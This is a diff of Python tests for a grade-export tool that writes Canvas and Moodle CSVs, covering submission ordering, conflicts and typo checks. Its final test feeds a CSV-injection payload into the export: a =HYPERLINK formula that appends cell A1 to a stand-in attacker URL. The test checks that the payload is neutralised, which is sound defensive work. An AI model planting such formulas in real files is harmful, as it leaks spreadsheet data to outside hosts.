@@ -43,14 +43,17 @@ def reports_dir(tmp_path, graded):
         report = dict(report, started_at=started_at) | ({"student": student} if student else {})
         (folder / name).write_text(json.dumps(report))
 
-    put("a.json", graded["correct"], {"id": "1001", "name": "Ada Lovelace"})  # by Canvas ID
-    put("a-old.json", graded["wrong_reshape"], {"id": "1001"}, started_at="2026-11-29T09:00:00+00:00")  # superseded
-    put("b.json", graded["wrong_reshape"], {"email": "Alan@uni.edu"})  # by SIS Login ID
+    # By Canvas ID. Two submissions of Ada's: the later submission (id 7002) counts, although the
+    # earlier one (7001) was graded later: exports go by the LMS's submission order, never by grading time.
+    put("a.json", graded["correct"], {"id": "1001", "name": "Ada Lovelace", "source": "canvas",
+                                      "submission_id": "7002"}, started_at="2026-11-29T09:00:00+00:00")
+    put("a-old.json", graded["wrong_reshape"], {"id": "1001", "source": "canvas", "submission_id": "7001"})
+    put("b.json", graded["wrong_reshape"], {"email": "Alan@uni.edu", "source": "canvas", "submission_id": "8002"})  # by SIS Login ID
     put("hopperg_1003_5551_solution.json", graded["nan_entropy"])  # Canvas's download naming
     put("S004.json", graded["correct"])  # file name = SIS User ID
     put("stranger.json", graded["correct"], {"name": "Nobody Here", "email": "nobody@else.org"})
     put("broken.json", dict(graded["correct"], status="error", error="internal grader error", score=0, tests=[]),
-        {"id": "1002"})
+        {"id": "1002", "source": "canvas", "submission_id": "8001"})  # Alan's earlier submission
     (folder / "summary.json").write_text('{"submissions": 6}')  # not a report
     return folder
 
@@ -66,17 +69,19 @@ def test_canvas_csv_round_trips_through_a_canvas_shaped_export(reports_dir):
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
     assert rows[1:] == [
         ["Lovelace, Ada", "1001", "S001", "ada@uni.edu", "Section A", "100"],
-        ["Turing, Alan", "1002", "S002", "alan@uni.edu", "Section A", "44.1667"],
+        ["Turing, Alan", "1002", "S002", "alan@uni.edu", "Section A", "39.1667"],
         ["Hopper, Grace", "1003", "S003", "grace@uni.edu", "Section B", "92.5"],
         ["Johnson, Katherine", "1004", "S004", "kj@uni.edu", "Section B", "100"],
         ["Student, Test", "1099", "", "", "Section A", ""],
     ]
     # the written file reads back as a Canvas gradebook with the same students
     assert canvas.read_gradebook(text) == students
-    assert [label for label, _ in export.unmatched] == ["stranger.json (Nobody Here)", "broken.json (1002)", "a-old.json (1001)"]
-    assert export.unmatched[0][1] == ("no student in the gradebook has its student email 'nobody@else.org', "
-                                      "student name 'Nobody Here', file name 'stranger'")
-    assert export.unmatched[2][1] == "Lovelace, Ada (1001) already has the newer report a.json"
+    assert export.unmatched == [
+        ("stranger.json (Nobody Here)", ("no student in the gradebook has its student email 'nobody@else.org', "
+                                         "student name 'Nobody Here', file name 'stranger'")),
+        ("a-old.json (1001)", "Lovelace, Ada (1001) has the later submission a.json"),
+        ("broken.json (1002)", "Turing, Alan (1002) has the later submission b.json")]
+    assert export.conflicts == []
     assert [s.id for s in export.without_report] == ["1099"]
 
 
@@ -129,10 +134,9 @@ def test_cli_export_canvas(reports_dir, tmp_path):
 def test_moodle_by_email_and_by_id_number(reports_dir):
     reports = load_reports(reports_dir).reports
     by_email = moodle.build(reports, "email")
-    assert by_email.rows == [("Alan@uni.edu", "", "", 44.1667), ("nobody@else.org", "", "Nobody Here", 100)]
-    # newest report first, then by file name, backwards
-    assert [label for label, _ in by_email.unmatched] == [
-        "hopperg_1003_5551_solution.json", "broken.json (1002)", "a.json (Ada Lovelace)", "S004.json", "a-old.json (1001)"]
+    assert by_email.rows == [("Alan@uni.edu", "", "", 39.1667), ("nobody@else.org", "", "Nobody Here", 100)]
+    assert [label for label, _ in by_email.unmatched] == [  # in the folder's (sorted) order
+        "S004.json", "a-old.json (1001)", "a.json (Ada Lovelace)", "broken.json (1002)", "hopperg_1003_5551_solution.json"]
     assert {why for _, why in by_email.unmatched} == {"no email address in the report's student or file name"}
     by_id = moodle.build(reports, "idnumber")
     assert by_id.rows == [("", "1001", "Ada Lovelace", 100), ("", "hopperg_1003_5551_solution", "", 92.5),
@@ -144,7 +148,7 @@ def test_moodle_by_email_and_by_id_number(reports_dir):
 def test_cli_export_moodle(reports_dir, tmp_path):
     result = CliRunner().invoke(main, ["export", "moodle", str(reports_dir), "-o", "-", "--column", "MHA"])
     assert result.exit_code == 0, result.output
-    assert result.stdout == "Email address,ID number,Full name,MHA\nAlan@uni.edu,,,44.1667\nnobody@else.org,,Nobody Here,100\n"
+    assert result.stdout == "Email address,ID number,Full name,MHA\nAlan@uni.edu,,,39.1667\nnobody@else.org,,Nobody Here,100\n"
     assert "2 grade(s); 5 report(s) unmatched." in result.stderr
 
 
@@ -162,3 +166,74 @@ def test_a_group_submission_counts_for_each_member(tmp_path):
         ({"source": "gradescope", "submission_id": "222", "id": "1002", "name": "Grace Hopper"}, 90),
         ({"source": "gradescope", "submission_id": "222", "id": "1003", "name": "Alan Turing",
           "email": "alan@uni.edu"}, 90)]
+
+
+def test_canvas_title_typo_is_refused_naming_the_export_columns(reports_dir, tmp_path):
+    # A title that is not a column of the export would make Canvas create a new assignment on import.
+    gradebook = tmp_path / "export.csv"
+    gradebook.write_text(CANVAS_EXPORT, encoding="utf-8")
+    out = tmp_path / "canvas.csv"
+    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
+                                       "--assignment", "Multi-head atention (222)", "-o", str(out)])
+    assert result.exit_code == 1
+    assert ("Error: the gradebook export has no column 'Multi-head atention (222)'; its assignment columns are: "
+            "'Homework 1 (111)', 'Multi-head attention (222)' (--new-column makes a new one on purpose)") in result.output
+    assert not out.exists()
+    result = CliRunner().invoke(main, ["export", "canvas", str(reports_dir), "--gradebook", str(gradebook),
+                                       "--assignment", "Attention, again (333)", "--new-column", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    assert out.read_text().splitlines()[0] == 'Student,ID,SIS User ID,SIS Login ID,Section,"Attention, again (333)"'
+
+
+def _report(file: str, score: float, student: dict, started_at: str = "2026-11-30T09:00:00+00:00"):
+    return canvas.GradedReport(file, {"status": "graded", "score": score, "started_at": started_at, "student": student})
+
+
+def test_exports_choose_by_gradescope_created_at_never_by_grading_time():
+    students = canvas.read_gradebook(CANVAS_EXPORT)
+    early = _report("early.json", 40, {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T18:00:00.000000+00:00"},
+                    started_at="2026-11-30T12:00:00+00:00")  # graded last
+    late = _report("late.json", 90, {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T19:00:00.000000+00:00"},
+                   started_at="2026-11-30T08:00:00+00:00")
+    export = canvas.match([early, late], students)
+    assert export.scores == {"1001": 90}
+    assert export.unmatched == [("early.json (1001)", "Lovelace, Ada (1001) has the later submission late.json")]
+    by_id = moodle.build([early, late], "idnumber")
+    assert by_id.rows == [("", "1001", "", 90)]
+
+
+def test_reports_that_no_submission_time_orders_give_an_error_row(tmp_path):
+    students = canvas.read_gradebook(CANVAS_EXPORT)
+    same = {"id": "1001", "source": "gradescope", "submitted_at": "2026-11-20T18:00:00.000000+00:00"}
+    export = canvas.match([_report("one.json", 40, same), _report("two.json", 90, same)], students)
+    assert export.scores == {}
+    assert [(s.id, why) for s, why in export.conflicts] == [
+        ("1001", ("2 reports (one.json, two.json) with the same submission time or id "
+                  "2026-11-20T18:00:00.000000+00:00; keep one of them"))]
+    untimed = moodle.build([_report("x.json", 40, {"id": "1001"}), _report("y.json", 90, {"id": "1001"})], "idnumber")
+    assert untimed.rows == []
+    assert untimed.conflicts == [("1001", ("2 reports (x.json, y.json) and no submission time from the LMS orders "
+                                           "them all; keep one of them in the reports folder"))]
+    # On the command line: the CSV is written, the student's cell blank, an error line, exit status 1.
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    for name in ("one", "two"):
+        (folder / f"{name}.json").write_text(json.dumps(dict(example("correct"), student=same)))
+    (tmp_path / "export.csv").write_text(CANVAS_EXPORT, encoding="utf-8")
+    result = CliRunner().invoke(main, ["export", "canvas", str(folder), "--gradebook", str(tmp_path / "export.csv"),
+                                       "--assignment", ASSIGNMENT, "-o", str(tmp_path / "canvas.csv")])
+    assert result.exit_code == 1
+    assert "error: Lovelace, Ada (1001): 2 reports (one.json, two.json) with the same submission time" in result.stderr
+    assert (tmp_path / "canvas.csv").read_text().splitlines()[1] == '"Lovelace, Ada",1001,S001,ada@uni.edu,Section A,'
+
+
+def test_formula_names_are_neutralized_in_canvas_and_moodle_csvs():
+    # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote.
+    evil = canvas.read_gradebook('Student,ID,SIS User ID,SIS Login ID,Section,MHA (1)\n'
+                                 '"=HYPERLINK(""http://x.example/?""&A1,""click"")",77,+1,@me,-A\n')
+    export = canvas.match([_report("r.json", 100, {"id": "77"})], evil)
+    rows = list(csv.reader(io.StringIO(canvas.to_csv(export, "MHA (1)"))))
+    assert rows[1] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "77", "'+1", "'@me", "'-A", "100"]
+    built = moodle.build([_report("r.json", 100, {"email": "\tx@uni.edu", "id": "9", "name": "=1+2"})], "email")
+    assert list(csv.reader(io.StringIO(moodle.to_csv(built)))) == [
+        ["Email address", "ID number", "Full name", "Grade"], ["'\tx@uni.edu", "9", "'=1+2", "100"]]
